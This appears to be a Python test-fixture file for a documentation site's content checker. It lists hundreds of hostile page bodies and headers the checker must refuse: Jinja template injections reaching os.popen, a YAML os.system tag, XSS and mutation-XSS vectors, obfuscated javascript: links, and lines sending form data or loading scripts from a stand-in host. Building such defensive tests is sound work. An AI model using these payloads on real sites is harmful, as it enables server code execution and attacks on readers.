"""Pages that try to run code or to smuggle code to readers. `EVIL` marks what may never come alive."""

import json

from tests.support.repository import BASE

EVIL = "kwaad"
RUN = "cycler.__init__.__globals__.os.popen('echo kwaad > canary').read()"

# Refused by the check for what is under their headers, each by the name of its page.
BODIES = {
    # what a viewer of Markdown would not know for code
    "code-in-words": "<b><pre><code>&lt;b onclick=kwaad()&gt;</code></pre></b>\n",
    "code-in-a-caption": "<table><caption><pre><code>kwaad()</code></pre></caption><tr><td>x</td></tr></table>\n",
    # code that runs during the build
    "popen": f"{{{{ {RUN} }}}}\n",
    "popen-in-block": f"{{% if {RUN} %}}x{{% endif %}}\n",
    "popen-in-value": f"{{{{ link({RUN}) }}}}\n",
    "popen-in-filter": f"{{{{ link('methods/gezinshulp') | replace('x', {RUN}) }}}}\n",
    "open-through-widget": "{{ link.__globals__.__builtins__.open('canary', 'w').write('kwaad') }}\n",
    "subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}\n",
    "statement-hidden-by-minus": f"{{%- set x = {RUN} -%}}\n",
    "include": "{% include 'index.md' %}\n",
    "import": "{% import 'index.md' as x %}\n",
    "macro": f"{{% macro x() %}}{{{{ {RUN} }}}}{{% endmacro %}}\n",
    "config": "{{ config.load_dict({'site_name': 'kwaad'}) }}\n",
    "page-path": "{{ page.file.abs_src_path }}\n",
    "very-long-text": "{{ 'kwaad' * 10 ** 9 }}\n",
    "raw-over-blocks": f"{{% raw %}}\n\ntekst\n\n{{% endraw %}}{{{{ {RUN} }}}}\n",
    "raw-left-open": f"Tekst {{% raw %}}{{{{ {RUN} }}}}\n",
    "raw-closed-only": f"{{% endraw %}}{{{{ {RUN} }}}}\n",
    "raw-with-minus": "{%- raw -%}<script>kwaad()</script>{%- endraw -%}\n",
    "raw-in-raw": f"{{% raw %}}{{% raw %}}{{% endraw %}}{{{{ {RUN} }}}}{{% endraw %}}\n",
    "raw-makes-an-attribute": "<div mark{% raw %}{% endraw %}down=1 onclick=kwaad()>\n\nx\n\n</div>\n",
    "minus": f"Tekst {{{{- {RUN} -}}}} tekst\n",
    "plus": f"{{%+ if {RUN} %}}x{{% endif %}}\n",
    "for": "{% for one in ().__class__.__base__.__subclasses__() %}{{ one }}{% endfor %}\n",
    "set-block": f"{{% set x %}}{{{{ {RUN} }}}}{{% endset %}}\n",
    "filter-block": "{% filter upper %}<script>kwaad()</script>{% endfilter %}\n",
    "call-block": "{% call link('methods/gezinshulp') %}x{% endcall %}\n",
    "with-block": f"{{% with x = {RUN} %}}{{{{ x }}}}{{% endwith %}}\n",
    "escape-turned-off": "{% autoescape false %}<b onclick=kwaad()>x</b>{% endautoescape %}\n",
    "extends": "{% extends 'main.html' %}\n",
    "block": "{% block content %}kwaad{% endblock %}\n",
    "unknown-block": "{% do kwaad() %}\n",
    "comment": "{# kwaad #}\n",
    "lipsum": "{{ lipsum.__globals__.os.popen('echo kwaad > canary').read() }}\n",
    "joiner": "{{ joiner.__init__.__globals__.os.system('echo kwaad > canary') }}\n",
    "self": "{{ self.__init__.__globals__ }}\n",
    "attribute-by-filter": "{{ link | attr('__globals__') }}\n",
    "attribute-by-name": "{{ link['__globals__'] }}\n",
    "of-the-answer": "{{ link('methods/gezinshulp').__class__.__mro__ }}\n",
    "call-the-answer": "{{ link('methods/gezinshulp')() }}\n",
    "format": "{{ '{0.__class__}'.format(link) }}\n",
    "all-of-the-page": "{{ link(**page) }}\n",
    "some-of-the-page": "{{ link(*page.meta) }}\n",
    "joined-text": "{{ link('methods/' ~ 'gezinshulp') }}\n",
    "list-as-value": "{{ link(['methods/gezinshulp']) }}\n",
    "choice": f"{{{{ link('methods/gezinshulp') if {RUN} else '' }}}}\n",
    "bare-value": "{{ 'kwaad' }}\n",
    "sum": "{{ 7 * 191 }}\n",
    "power": "{{ 9 ** 9 ** 9 }}\n",
    "field-of-python": "{{ listing('methods', __class__='kwaad') }}\n",
    "own-renderer": "{{ listing('methods', renderer='kwaad') }}\n",
    "own-slots": "{{ listing('methods', slots='kwaad') }}\n",
    "own-name": "{{ card('methods/gezinshulp', name='kwaad') }}\n",
    "slot-in-text": "{{ link('methods/gezinshulp', '\\ue0000\\ue001') }}\n",
    "slot-typed": "Tekst \ue0000\ue001 {{ link('methods/gezinshulp') }}\n",
    "frame-sign-typed": "Tekst \ue002content\ue002\n",
    "stash-of-markdown": "Tekst \x02wzxhzdk:0\x03 <b>x</b>\n",
    "widget-in-comment": "<!-- {{ link('methods/gezinshulp') }} -->\n",
    "widget-in-address": "[x]({{ link('methods/gezinshulp') }})\n",
    "number-in-words": "{{ link('methods/gezinshulp', 'Bel 0909' ' 12 34 56 7') }}\n",
    "number-cut-by-markup": "Bel 0800-<b></b>1234\n",
    "number-in-entities": "Bel &#48;800-1234\n",
    "number-as-link": '<a href="tel:**21*0909">Bel Veilig Thuis</a>\n',
    "number-as-markdown-link": "[Bel 112](tel:0909)\n",
    "mail-with-copy": "[Mail ons](mailto:info@voorbeeld.nl?bcc=kwaad@kwaad.example&body=x)\n",
    # code that runs at the reader's
    "script": "<script>kwaad()</script>\n",
    "script-upper-case": "<SCRIPT SRC=https://kwaad.example/x.js></SCRIPT>\n",
    "svg": "<svg onload=kwaad()><circle r=1 /></svg>\n",
    "image": "Een <img src=x onerror=kwaad()> in een zin.\n",
    "image-over-lines": "Een <img src=x\nonerror='kwaad()'> in een zin.\n",
    "link": "[klik](javascript:kwaad())\n",
    "link-with-entities": "[klik](java&#115;cript&colon;kwaad())\n",
    "link-with-a-tab": '<a href="java&#9;script:kwaad()">klik</a>\n',
    "link-by-reference": "[klik][1]\n\n[1]: javascript:kwaad()\n",
    "link-in-brackets": "<javascript:kwaad()>\n",
    "link-with-data": "[klik](data:text/html;base64,kwaad)\n",
    "link-without-scheme": "[klik](//kwaad.example)\n",
    "picture-by-reference": "![x][1]\n\n[1]: javascript:kwaad()\n",
    "refresh": '<meta http-equiv="refresh" content="0; url=https://kwaad.example">\n',
    "form": '<form action="https://kwaad.example"><input name="bsn"></form>\n',
    "style": '<p style="background: url(https://kwaad.example)">Tekst</p>\n',
    "style-element": "<style>@import 'https://kwaad.example';</style>\n",
    "object": '<object data="kwaad.swf"></object>\n\n<embed src="kwaad.swf">\n',
    "base": '<base href="https://kwaad.example/">\n',
    "frame": '<iframe srcdoc="<script>kwaad()</script>"></iframe>\n',
    "markdown-in-html": '<div markdown="1" onclick="kwaad()">\n\n*Tekst*\n\n</div>\n',
    "markdown-in-html-deep": '<div markdown="1">\n<p markdown="span">Een <b onclick="kwaad()">woord</b></p>\n</div>\n',
    "comment-closed-early": "Tekst <!--><img src=x onerror=kwaad()>--> tekst.\n",
    "comment-with-script": "<!--><script>kwaad()</script>-->\n",
    "character-data": "<![CDATA[ ><img src=x onerror=kwaad()> ]]>\n",
    "raw-in-a-tag": "<{% raw %}script>kwaad()<{% endraw %}/script>\n",
    "raw-with-code": "{% raw %}{{ x }}{% endraw %}<img src=x onerror=kwaad()>\n",
    "fence": "Tekst ```\n<img src=x onerror=kwaad()>\n```\ncode\n```\n",
    "widget-in-a-tag": "<span title=\"{{ link('methods/gezinshulp', ' onmouseover=kwaad() ') }}\">x</span>\n",
    "widget-with-html": "{{ vocabulary('\\x3cimg src=x onerror=kwaad()\\x3e') }}\n",
    # HTML that acts, covers, fetches, or takes the place of the shell
    "math": '<math><mtext><mglyph><style><img src=x onerror="kwaad()"></style></mglyph></mtext></math>\n',
    "svg-in-a-sentence": "Een <svg><a xlink:href='javascript:kwaad()'><text>x</text></a></svg> woord.\n",
    "svg-animate": '<svg><animate onbegin="kwaad()" attributeName="x"/></svg>\n',
    "embed": '<embed src="kwaad.html">\n',
    "applet": "<applet code=kwaad></applet>\n",
    "portal": '<portal src="https://kwaad.example"></portal>\n',
    "link-element": '<link rel="stylesheet" href="https://kwaad.example/x.css">\n',
    "link-prefetch": '<link rel="dns-prefetch" href="//kwaad.example">\n',
    "meta-policy": '<meta http-equiv="Content-Security-Policy" content="script-src kwaad">\n',
    "picture": '<picture><source srcset="https://kwaad.example/x.webp"><img src="x.png" alt=""></picture>\n',
    "srcset": '<img src="x.png" srcset="https://kwaad.example/x.png 2x" alt="">\n',
    "video": '<video autoplay src="https://kwaad.example/x.mp4"></video>\n',
    "audio": '<audio autoplay controls src="kwaad.mp3"></audio>\n',
    "track": '<video><track default src="kwaad.vtt"></video>\n',
    "toggle": "<details open ontoggle=kwaad()>x</details>\n",
    "focus": '<p tabindex="0" autofocus onfocus="kwaad()">x</p>\n',
    "popover": '<p popover="auto" id="kwaad">x</p>\n',
    "button": '<button onclick="kwaad()">x</button>\n',
    "input": '<input autofocus onfocus="kwaad()">\n',
    "text-area": '<textarea><img src=x onerror="kwaad()"></textarea>\n',
    "select": '<select><option onclick="kwaad()">x</option></select>\n',
    "marquee": "<marquee onstart=kwaad()>x</marquee>\n",
    "dialog": "<dialog open>kwaad</dialog>\n",
    "template": '<template shadowrootmode="open"><script>kwaad()</script></template>\n',
    "slot": '<slot name="kwaad">x</slot>\n',
    "no-script": '<noscript><p title="</noscript><img src=x onerror=kwaad()>"></noscript>\n',
    "plain-text": "<plaintext>kwaad\n",
    "xmp": '<xmp><p title="</xmp><img src=x onerror=kwaad()>"></xmp>\n',
    "title-element": "<title><img src=x onerror=kwaad()></title>\n",
    "own-element": "<kwaad-element onclick='kwaad()'>x</kwaad-element>\n",
    "namespace": '<html:script xmlns:html="http://www.w3.org/1999/xhtml">kwaad()</html:script>\n',
    "is": '<p is="kwaad">x</p>\n',
    "slash-for-space": "Een <b/onclick=kwaad()>woord</b>.\n",
    "quote-for-space": 'Een <b "onclick=kwaad()>woord</b>.\n',
    "backtick": "Een <b title=`x`onclick=kwaad()>woord</b>.\n",
    "attribute-twice": '<p title="x" title="y" onclick="kwaad()" onclick="">x</p>\n',
    "data-attribute": '<p data-search="kwaad">x</p>\n',
    "hidden": "<p hidden>kwaad</p>\n",
    "tab-order": '<p tabindex="1">kwaad</p>\n',
    "editable": '<p contenteditable="true">kwaad</p>\n',
    "role": '<p role="alert" aria-live="assertive">kwaad</p>\n',
    "access-key": '<a href="./" accesskey="k">kwaad</a>\n',
    "ping": '<a href="./" ping="https://kwaad.example">x</a>\n',
    "target": '<a href="./" target="kwaad">x</a>\n',
    "rel": '<a href="./" rel="opener">kwaad</a>\n',
    "download": '<a href="./" download="kwaad.exe">x</a>\n',
    "cite": '<blockquote cite="javascript:kwaad()">x</blockquote>\n',
    "background": '<table background="https://kwaad.example/x.png"><tr><td>x</td></tr></table>\n',
    "html-style": '<b style="position:fixed;inset:0">kwaad</b>\n',
    "class-of-the-shell": '<p class="site-header">kwaad</p>\n',
    "class-of-a-mark": '<p><span class="level level--zeer-goed">kwaad</span></p>\n',
    "class-of-a-number": '<p><a class="phone" href="./">kwaad</a></p>\n',
    "class-of-mermaid": '<pre class="mermaid"><code>kwaad</code></pre>\n',
    "class-of-material": '<a class="md-consent__overlay" href="https://kwaad.example/">.</a>\n',
    "class-with-entity": '<p class="md&#45;kwaad">x</p>\n',
    "id-of-material": '<div id="__config">{"base":"https://kwaad.example"}</div>\n',
    "id-of-the-shell": "<div id='search-field'>kwaad</div>\n",
    "id-of-the-shell-on-a-heading": "<h2 id='search-field'>kwaad</h2>\n",
    "id-that-clobbers": "<h2 id='__proto__'>kwaad</h2>\n",
    "name-that-clobbers": "<a name='documentElement' href='./'>kwaad</a>\n",
    "heading-with-a-closing-tag": '<h1>T <span title="</h1><details open ontoggle=kwaad()>">z</span></h1>\n',
    "heading-that-ends-in-a-title": '<h2 id="x">K <span title="> <img src=x onerror=kwaad() </h2>">y</span></h2>\n',
    "out-of-the-article": "Kwaad.\n\n</div></main></body>\n",
    "out-of-the-story": "Tekst\n\n</section>\n\n<section>kwaad</section>\n",
    "end-without-begin": "Een </strong> kwaad woord.\n",
    "left-open": '<div><a href="https://kwaad.example">Lees verder\n',
    "left-open-in-a-sentence": "Een <strong>kwaad woord.\n",
    "closed-in-the-wrong-order": "Een <em><strong>kwaad</em></strong> woord.\n",
    "open-that-looks-closed": "<div/>\n\nkwaad\n",
    "line-break-that-closes": "Kwaad</br>woord\n",
    "paragraph-in-a-paragraph": "<p>kwaad <p>x</p></p>\n",
    "loose-cell": "<td>kwaad</td>\n",
    "conditional-comment-open": "<![if IE]><b onclick=kwaad()>x</b><![endif]>\n",
    "comment-closed-with-bang": "Tekst <!-- x --!><img src=x onerror=kwaad()> --> tekst.\n",
    "comment-with-condition": "<!--[if IE]><script>kwaad()</script><![endif]-->\n",
    "comment-with-dashes": "<!--->kwaad<img src=x onerror=kwaad()>-->\n",
    "processing-instruction": "<?xml-stylesheet href='javascript:kwaad()'?>\n",
    "php": "<?php kwaad(); ?>\n",
    "document-type": "<!DOCTYPE html [<!ENTITY x 'kwaad'>]>\n\nx\n",
    "character-data-in-a-sentence": "Tekst <![CDATA[<img src=x onerror=kwaad()>]]> tekst.\n",
    "greater-than-in-a-title": '<p title="a > b"><b>kwaad</b></p>\n',
    "less-than-in-a-title": '<p title="&lt;img src=x onerror=kwaad()&gt;">x</p>\n',
    "large-number": '<table><tr><td colspan="99999">kwaad</td></tr></table>\n',
    "width-with-more": '<img src="x.png" alt="" width="1;kwaad">\n',
    "mutation-table": "<table><p title='</table><img src=x onerror=kwaad()>'>x</p></table>\n",
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=kwaad()>\n",
    "mutation-list": "<ul><li><p>kwaad<ul></p></li></ul>\n",
    "fence-with-attributes": "``` { .html onclick=kwaad() }\nx\n```\n\n<b onclick=kwaad()>x</b>\n",
    "fence-with-loose-words": "```html onclick=kwaad()\n<script>kwaad()</script>\n```\n",
    "fence-in-a-list": "- punt\n\n    ```\n    x\n\n<b onclick=kwaad()>y</b>\n\n    ```\n",
    "note-with-html-title": '!!! note "<img src=x onerror=kwaad()>"\n    Tekst.\n',
    "list-of-contents": "[TOC]\n",
    "note-with-own-class": "!!! kwaad\n    Tekst.\n",
    "definition-with-html": "Begrip\n\n:   <b onclick=kwaad()>x</b>\n",
    "quote-with-html": "> > <b onclick=kwaad()>x</b>\n",
    "table-with-html": "| a |\n|---|\n| <b onclick=kwaad()>x</b> |\n",
    "markdown-block": '<div markdown="block" title="x"><b onclick=kwaad()>*x*</b></div>\n',
    "markdown-attribute-in-disguise": '<div MARKDOWN="1"><b onclick=kwaad()>*x*</b></div>\n',
    # signs that are not what they look like
    "reversed": "Kwaad \u202etxet\u202c\n",
    "isolated": "Kwaad \u2066tekst\u2069\n",
    "no-width": "Kw\u200baad\n",
    "soft-hyphen": "Kw\xadaad\n",
    "cyrillic-in-latin": "Bij \u0410ccare kwaad.\n",
    "greek-in-latin": "Bij \u0391ccare kwaad.\n",
    "twins-only": "Bij \u0441\u043e\u0441\u0430 kwaad.\n",
    "full-width-braces": f"\uff5b\uff5b {RUN} \uff5d\uff5d kwaad\n",
    "full-width": "Bel \uff10\uff18\uff10\uff10 kwaad\n",
    "mathematical": "Bij \U0001d404\U0001d425\U0001d424\U0001d41e\U0001d42b kwaad.\n",
    "other-digits": "Bel \u0660\u0668\u0660\u0660 kwaad\n",
    "many-accents": "Kwa" + "\u0301" * 30 + "ad\n",
    "escape": "Kwaad \x1b[31mrood\n",
    "next-line": "Kwaad\x85tekst\n",
    "line-separator": "Kwaad\u2028tekst\n",
    "tag-signs": "Kwaad \U000e0041\U000e0042\n",
    "byte-order": "Kwaad \ufefftekst\n",
    "merge": "Tekst\n\n<<<<<<< HEAD\nkwaad\n=======\ngoed\n>>>>>>> main\n",
}
_ADDRESSES = {
    "upper-case": "JaVaScRiPt:kwaad()",
    "vb": "vbscript:kwaad()",
    "file": "file:///etc/kwaad",
    "blob": "blob:https://kwaad.example/1",
    "ftp": "ftp://kwaad.example/",
    "http": "http://kwaad.example/",
    "socket": "wss://kwaad.example/",
    "intent": "intent://kwaad#Intent;end",
    "sms": "sms:0909?body=kwaad",
    "whatsapp": "whatsapp://send?phone=kwaad",
    "view-source": "view-source:https://kwaad.example",
    "three-slashes": "///kwaad.example/",
    "user": "https://elker.nl@kwaad.example/",
    "port": "https://kwaad.example:8443/",
    "punycode": "https://xn--kwaad-9db.example/",
    "cyrillic": "https://\u0435lker-kwaad.example/",
    "number": "https://192.168.0.1/kwaad",
    "long-number": "https://3232235521/kwaad",
    "hexadecimal": "https://0xc0.0xa8.0.1/kwaad",
    "version-six": "https://[2001:db8::1]/kwaad",
    "without-slashes": "https:kwaad.example",
    "one-slash": "https:/kwaad.example/",
    "dot-at-the-end": "https://kwaad.example./",
    "full-width-dot": "https://kwaad\uff0eexample/",
    "very-long": "https://kwaad.example/" + "a" * 600,
    "mail-twice": "mailto:a@b.nl,kwaad@kwaad.example",
    "mail-without": "mailto:kwaad",
}
_WITH_ENTITIES = {
    "new-line": "java&#10;script:kwaad()",
    "return": "java&#13;script:kwaad()",
    "null": "java&#0;script:kwaad()",
    "before": "&#1;javascript:kwaad()",
    "space": "&#32;javascript:kwaad()",
    "colon": "javascript&colon;kwaad()",
    "tab-name": "java&Tab;script:kwaad()",
    "hexadecimal": "&#x6A;avascript:kwaad()",
    "zeros": "&#0000106avascript:kwaad()",
    "backslash": "\\\\kwaad.example",
    "slash-backslash": "/\\kwaad.example",
}
_PICTURES = {
    "remote": "https://kwaad.example/p.png",
    "no-scheme": "//kwaad.example/p.png",
    "three": "///kwaad.example/p.png",
    "data": "data:image/svg+xml,<svg onload=kwaad()>",
    "http": "http://kwaad.example/p.png",
    "script": "javascript:kwaad()",
}
# Each widget's words stand for two of the next: two to the sixtieth, were slots filled again and again.
_DOUBLE = "\\ue000{0}\\ue001\\ue000{0}\\ue001"
BODIES["slots-that-double"] = "".join(
    f"{{{{ link('methods/gezinshulp', '{_DOUBLE.format(number)}') }}}}\n" for number in range(1, 60)
)
for _name, _address in _ADDRESSES.items():
    BODIES[f"address-{_name}"] = f'Een <a href="{_address}">kwaad</a> woord.\n'
    BODIES[f"markdown-address-{_name}"] = f"Een [kwaad]({_address}) woord.\n"
for _name, _address in _WITH_ENTITIES.items():
    BODIES[f"entity-address-{_name}"] = f'Een <a href="{_address}">kwaad</a> woord.\n'
for _name, _address in _PICTURES.items():
    BODIES[f"picture-{_name}"] = f"Een ![kwaad]({_address}) plaatje.\n"
    BODIES[f"img-{_name}"] = f'Een <img src="{_address}" alt="kwaad"> plaatje.\n'
    BODIES[f"referred-picture-{_name}"] = f"Een ![kwaad][1] plaatje.\n\n[1]: {_address}\n"

# Refused for their headers.
_HEADERS = {
    "popen-turned-on": f"---\ntitle: Pagina\nrender_macros: true\n---\n\n# Pagina\n\n{{{{ {RUN} }}}}\n",
    "popen-after-raw": f"---\ntitle: x\n# {{% raw %}}\n---\n\n{{{{ {RUN} }}}} {{% raw %}}{{% endraw %}}\n",
    "popen-in-title": f'---\ntitle: "{{{{ {RUN} }}}}"\n---\n\n# Pagina\n',
    "include-yaml": "---\ntitle: Pagina\ninclude_yaml: [data/contacts.yml]\n---\n\n# Pagina\n",
    "other-template": "---\ntitle: Pagina\ntemplate: 404.html\n---\n\n# Pagina\n",
    "header-without-lines": f"render_macros: true\n\n{{{{ {RUN} }}}}\n",
    "title-with-html": "---\ntitle: </title><script>kwaad()</script>\n---\n\n# Pagina\n",
    "old-header": f"NB:{{% raw %}}\n{{{{ {RUN} }}}} {{% raw %}}{{% endraw %}}\n\n# X\n",
    "old-header-template": 'template:redirect.html\nlocation:"+kwaad()+"\n\n# X\n',
    "old-header-author": 'author:`"><img src=x onerror=kwaad()>`\n\n# X\n',
    "header-that-two-read": '---\ntitle: "\\ud800"\ntitle: Gewoon\n## <img src=x onerror=kwaad()>\n---\n\n# X\n',
    "two-headers": f"---\ntitle: X\n---\n---\ntemplate: kwaad.html\n---\n\n{{{{ {RUN} }}}}\n",
    "two-documents": "---\ntitle: X\n--- \ntemplate: kwaad.html\n---\n\n<b onclick=kwaad()>x</b>\n",
    "ends-with-dots": f"---\ntitle: X\n...\n\n{{{{ {RUN} }}}}\n",
    "no-end": f"---\ntitle: X\n\n{{{{ {RUN} }}}}\n",
    "four-dashes": f"----\ntitle: X\n----\n\n{{{{ {RUN} }}}}\n",
    "space-before": f" ---\ntitle: X\n---\n\n{{{{ {RUN} }}}}\n",
    "line-before": f"\n---\ntitle: X\n---\n\n{{{{ {RUN} }}}}\n",
    "tab-after": f"---\t\ntitle: X\n---\t\n\n{{{{ {RUN} }}}}\n",
    "byte-order-mark": f"\ufeff---\ntitle: X\n---\n\n{{{{ {RUN} }}}}\n",
    "two-byte-order-marks": f"\ufeff\ufeff---\ntitle: X\n---\n\n{{{{ {RUN} }}}}\n",
    "windows-lines": "---\r\ntitle: X\r\ntemplate: kwaad.html\r\n---\r\n\r\n# X\r\n",
    "old-mac-lines": "---\rtitle: X\rtemplate: kwaad.html\r---\r\r# X\r",
    "mixed-lines": f"---\r\ntitle: X\n---\r\n\r\n{{{{ {RUN} }}}}\n",
    "anchor": "---\ntitle: &a kwaad\ndescription: *a\n---\n\n# X\n",
    "merge-key": "---\ntitle: X\n<<: {template: kwaad.html}\n---\n\n# X\n",
    "tag-of-python": "---\ntitle: !!python/object/apply:os.system ['echo kwaad > canary']\n---\n\n# X\n",
    "tag-of-the-environment": "---\ntitle: !ENV [HOME, kwaad]\n---\n\n# X\n",
    "title-date": "---\ntitle: 2026-11-22\n---\n\n# kwaad\n",
    "title-number": "---\ntitle: 112\n---\n\n# kwaad\n",
    "title-flag": "---\ntitle: no\n---\n\n# kwaad\n",
    "title-list": "---\ntitle: [kwaad]\n---\n\n# X\n",
    "title-fields": "---\ntitle: {kwaad: x}\n---\n\n# X\n",
    "title-nothing": "---\ntitle: ~\n---\n\n# kwaad\n",
    "title-jinja-block": "---\ntitle: 'x {% kwaad %}'\n---\n\n# X\n",
    "title-jinja-comment": "---\ntitle: 'x {# kwaad #}'\n---\n\n# X\n",
    "title-with-sign": '---\ntitle: "kwaad \\ue002content\\ue002"\n---\n\n# X\n',
    "title-reversed": '---\ntitle: "kwaad \\u202e"\n---\n\n# X\n',
    "title-of-two-alphabets": "---\ntitle: \u0410ccare kwaad\n---\n\n# X\n",
    "description-with-html": "---\ntitle: X\ndescription: <img src=x onerror=kwaad()>\n---\n\n# X\n",
    "description-list": "---\ntitle: X\ndescription: [kwaad]\n---\n\n# X\n",
    "hide-something": "---\ntitle: X\nhide: [header, kwaad]\n---\n\n# X\n",
    "hide-text": "---\ntitle: X\nhide: kwaad\n---\n\n# X\n",
    "upper-case-field": "---\nTitle: kwaad\n---\n\n# X\n",
    "render-off": "---\ntitle: X\nrender_macros: false\n---\n\n# kwaad\n",
    "search-field": "---\ntitle: X\nsearch: {exclude: kwaad}\n---\n\n# X\n",
    "status-field": "---\ntitle: X\nstatus: kwaad\n---\n\n# X\n",
    "header-of-python": "---\ntitle: X\n__class__: kwaad\n---\n\n# X\n",
    "field-surrogate": '---\n"\\ud800": kwaad\ntitle: X\n---\n\n# X\n',
    "alias-bomb": "---\ntitle: X\na: &a [kwaad, kwaad]\nb: &b [*a, *a]\nc: [*b, *b]\n---\n\n# X\n",
}

HEADER_ENDS = 3  # the line on which the header of the bodies ends
HOSTILE = {**{name: f"---\ntitle: Pagina\n---\n\n# Pagina\n\n{body}" for name, body in BODIES.items()}, **_HEADERS}

# Files that the check refuses for what they are.
HOSTILE_FILES = {
    "docs/other-ending.markdown": f"{{{{ {RUN} }}}}\n",
    "docs/finished.html": "<script>kwaad()</script>\n",
    "docs/plaat.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="kwaad()"/>\n',
    'docs/"><img src=x onerror=kwaad()>.md': "---\ntitle: Pagina\n---\n\n# Pagina\n",
}

# Pages and records that pass: what is wrong with them must be made harmless.
_HTML = "'\"><img src=x onerror=kwaad()></title><script>kwaad()</script>"
_SHOWN = _HTML.replace("<", "&lt;")
_MARKDOWN = "[klik](javascript:kwaad()) <b onclick=kwaad()>*x*</b> {{ 7 * 191 }} `x` | a"
TAME = {
    "docs/tekst.md": "---\ntitle: Tekst\n---\n\n# Tekst\n\n&#123;&#123; kwaad() }}\n\n"
    + "# for kwaad in x\n\n## set kwaad = 7 * 191\n\n"
    "<{{ link('methods/gezinshulp') }} onclick=kwaad()>\n\n"
    "&#xe000;0&#xe001; &#123;&#123; 7 * 191 }} &lbrace;% kwaad %}\n\n"
    "Een <a href='./'>link <a href='https://elders.example'>in een link</a></a>.\n\n"
    "[x](https://elders.example/ 'een \" onclick=kwaad()') [y](<https://elders.example/> \"'onclick=kwaad()\")\n\n"
    "*[kwaad]: onclick=kwaad()\n\nTekst{: onclick=kwaad() }\n\n[^1]: kwaad()\n\n"
    '!!! note "kwaad() onclick=kwaad()"\n    Tekst.\n\n``` {onclick=kwaad()}\nx\n```\n\n'
    "`<b onclick=kwaad()>`\n",
    "docs/commentaar.md": "---\ntitle: Tekst\n---\n\nTekst <!-- kwaad <b>x</b>\n",
    "docs/kop.md": f"---\ntitle: Kop\n---\n\n# {_SHOWN}\n\n## {_SHOWN}\n\n## Twee\n",
    "docs/beschrijving.md": "---\ntitle: 'x\" onload=\"kwaad()'\ndescription: '0; url=https://kwaad.example\" "
    "http-equiv=\"refresh'\n---\n\n# Pagina\n",
    "docs/widgets.md": "---\ntitle: Widgets\n---\n\n# Widgets\n\n"
    "## {{ link('partners/boos') }}\n\n## Over {{ explain('boos') }}\n\n## Drie\n\n## Vier\n\n"
    "{{ link('methods/gezinshulp', '[x](javascript:kwaad())') }} "
    "{{ link('partners/boos') }} {{ explain('boos') }} {{ explain('boos', '`*_<b onclick=kwaad()>') }}\n\n"
    "- {{ card('partners/boos') }}\n\n| a |\n|---|\n| {{ link('partners/boos') }} {{ partner('boos') }} |\n\n"
    "{{ listing('partners') }}\n\n"
    "> {{ partner('boos') }}\n\n    {{ term('boos') }}\n\n"
    "<div markdown='1'>\n\n{{ partner('boos') }}\n\n</div>\n",
    # a contact's name and purpose, which once were read as Markdown
    "data/contacts.yml": (BASE / "data/contacts.yml").read_text()
    + f"- id: boos\n  name: {json.dumps('[Boos](javascript:kwaad()) ' + _HTML)}\n  numbers: [050-123 45 67]\n"
    f"  purpose: {json.dumps(_MARKDOWN)}\n  sources: [b1]\n  checked: 2026-11-01\n",
    "docs/nummers.md": "---\ntitle: Nummers\n---\n\nBel {{ phone('boos') }}, *{{ phone('boos') }}*.\n\n"
    "[x {{ phone('boos') }}](index.md)\n\n{{ numbers() }}\n",
    "docs/partners/boos.md": "---\ntitle: Boos\n---\n\nHet verhaal.\n\n## {{ link('partners/boos') }} en ik\n\n"
    "## &lt;img src=x onerror=kwaad()&gt;\n\nTekst.\n",
    "data/partners/boos.yml": f"""name: {json.dumps(_HTML)}
also_known_as: [{json.dumps(_MARKDOWN)}]
type: ggz-instelling
relation: partner
summary: {json.dumps(_MARKDOWN)}
roles:
- text: {json.dumps(_HTML)}
  sources: [b1]
details:
- label: {json.dumps(_HTML)}
  text: {json.dumps(_MARKDOWN)}
  sources: [b1]
search_terms: [{json.dumps(_HTML)}]
gaps: [{json.dumps(_HTML)}]
status: actueel
sources: [b1]
reviewed: 2026-11-01
owner: redactie
""",
    "data/terms/boos.yml": f"""title: {json.dumps(_HTML)}
meanings:
- text: {json.dumps(_MARKDOWN)}
  sources: [b1]
status: actueel
sources: [b1]
reviewed: 2026-11-01
owner: redactie
""",
}
